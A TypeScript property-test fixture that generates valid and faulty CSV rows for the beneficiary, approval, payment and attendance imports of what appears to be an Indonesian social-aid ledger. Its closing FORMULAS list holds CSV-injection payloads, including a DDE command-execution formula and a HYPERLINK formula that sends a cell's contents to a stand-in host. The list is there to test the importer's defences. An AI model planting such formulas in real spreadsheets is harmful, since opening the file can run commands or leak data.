import fc from 'fast-check';
import { IMPORT_KINDS } from '@saksi/ledger';
import { A, PROGRAMME } from '@saksi/projections';

/**
 * The four CSV layouts, each as a header and rows of valid cells. Cells may hold placeholders that
 * are filled when the file is sent (`{kpm}` a fresh id, `{nik}` a fresh NIK of village A's
 * district, `{registered}` / `{approved}` a family in that state, `{session}` a training session),
 * so that shrinking and replaying a file never collide with what an earlier run recorded.
 */
export type CsvKind = 'beneficiaries' | 'approvals' | 'payments' | 'attendance';
export type Row = Record<string, string>;

/** The importer's own columns for a kind, the required ones first. */
export function columnsOf(kind: CsvKind): string[] {
  return [...IMPORT_KINDS[kind]!.required, ...IMPORT_KINDS[kind]!.optional];
}

/** The columns a kind cannot do without. */
export function requiredOf(kind: CsvKind): string[] {
  return IMPORT_KINDS[kind]!.required;
}

export interface KindLayout {
  columns: string[];
  row: fc.Arbitrary<Row>;
  /** Cells that make a row wrong, by column: what the import must refuse, naming the line. */
  wrong: Record<string, string[]>;
  /** Free-text columns, where a formula is a legitimate (if odd) value and must be kept as sent. */
  text: string[];
}

const NAMES = ['Siti Aminah', 'Nur, Halimah', 'Ahmad "Yani"', 'Cut Nyak Dhien', 'Teungku Umar', 'Sútini'];

export const LAYOUTS: Record<CsvKind, KindLayout> = {
  beneficiaries: {
    columns: columnsOf('beneficiaries'),
    row: fc.record({
      kpm_id: fc.constant('{kpm}'),
      programme_id: fc.constant(PROGRAMME),
      village_code: fc.constant(A),
      hamlet: fc.constantFrom('', 'Dusun Mawar', 'Dusun Melati'),
      rt: fc.constantFrom('', '001', '7'),
      rw: fc.constantFrom('', '002'),
      head_name: fc.constantFrom(...NAMES),
      head_nik: fc.constant('{nik}'),
      head_sex: fc.constant('F'),
      head_birth_date: fc.constant('1980-07-05'),
      members: fc.constantFrom('', 'M:2012-03-01', 'M:2012-03-01|F:2015-06-30'),
      source_list: fc.constantFrom('P3KE', 'DTKS', 'VILLAGE'),
      other_aid: fc.constantFrom('', 'BPNT', 'PIP|KIS'),
      reason: fc.constantFrom('', 'Kehilangan mata pencaharian'),
    }),
    wrong: {
      head_sex: ['X', 'female'],
      head_nik: ['123', 'abcdefghijklmnop', '9999994507800001'],
      head_birth_date: ['2024-02-30', '05/07/1980'],
      village_code: ['11.01.01.9999', '1101012001'],
      source_list: ['NOWHERE'],
      programme_id: ['-bad id-'],
      members: ['X:2010-01-01', 'F'],
      other_aid: ['GOLD'],
      rt: ['1234', 'abc'],
    },
    text: ['head_name', 'hamlet', 'reason'],
  },
  approvals: {
    columns: columnsOf('approvals'),
    row: fc.record({
      kpm_id: fc.constant('{registered}'),
      musdes_ref: fc.constantFrom('', 'BA/03/2024'),
      musdes_date: fc.constantFrom('', '2024-03-01'),
    }),
    wrong: { kpm_id: ['no-such-family', '!!'], musdes_date: ['2024-02-30', '2099-01-01'] },
    text: ['musdes_ref'],
  },
  payments: {
    columns: columnsOf('payments'),
    row: fc.record({
      kpm_id: fc.constant('{approved}'),
      payment_id: fc.constant('{kpm}'),
      period: fc.constantFrom('2024-05', '2024-06'),
      amount: fc.constantFrom('300000', '900000'),
      channel: fc.constantFrom('cash', 'bank', 'post-office', 'e-wallet'),
      reference: fc.constantFrom('TRX-0001', 'KW 12/2024'),
      paid_on: fc.constant('2024-05-20'),
    }),
    wrong: {
      amount: ['-5', '300000.50', '1e309', 'tiga ratus', '0'],
      period: ['2024-13', '24-05'],
      channel: ['bitcoin'],
      paid_on: ['2024-02-30', '2099-01-01'],
      kpm_id: ['no-such-family'],
    },
    text: ['reference'],
  },
  attendance: {
    columns: columnsOf('attendance'),
    row: fc.record({
      session_id: fc.constant('{session}'),
      kpm_id: fc.constant('{kpm}'),
      participant_sex: fc.constantFrom('F', 'M'),
      participant_birth_date: fc.constantFrom('', '1990-01-15'),
      attended_at: fc.constantFrom('2024-03-10T02:05:00Z', '2024-03-10T09:05:00+07:00'),
    }),
    wrong: {
      participant_sex: ['x'],
      attended_at: ['2024-03-10', 'kemarin'],
      participant_birth_date: ['1890-01-01', '1990-02-30'],
      session_id: ['no-such-session'],
    },
    text: [],
  },
};

/** What spreadsheets run as formulas when a file is opened (OWASP's CSV injection). */
export const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.example/?"&A1,"klik")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '=1+1',
];
